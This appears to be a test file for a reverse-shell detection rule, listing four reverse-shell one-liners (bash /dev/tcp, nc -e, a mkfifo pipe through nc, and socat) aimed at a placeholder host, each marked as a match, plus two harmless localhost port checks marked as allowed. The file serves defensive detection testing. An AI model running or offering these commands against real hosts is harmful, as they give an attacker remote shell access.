# ruleid: shells-reverse-shell
bash -i >& /dev/tcp/a.invalid/99 0>&1
# ruleid: shells-reverse-shell
nc -e /bin/sh a.invalid 99
# ruleid: shells-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc a.invalid 99 > /tmp/f
# ruleid: shells-reverse-shell
socat TCP:a.invalid:99 EXEC:/bin/bash,pty
# ok: shells-reverse-shell
nc -z localhost 80
# ok: shells-reverse-shell
(echo > /dev/tcp/localhost/80) 2>/dev/null && echo up
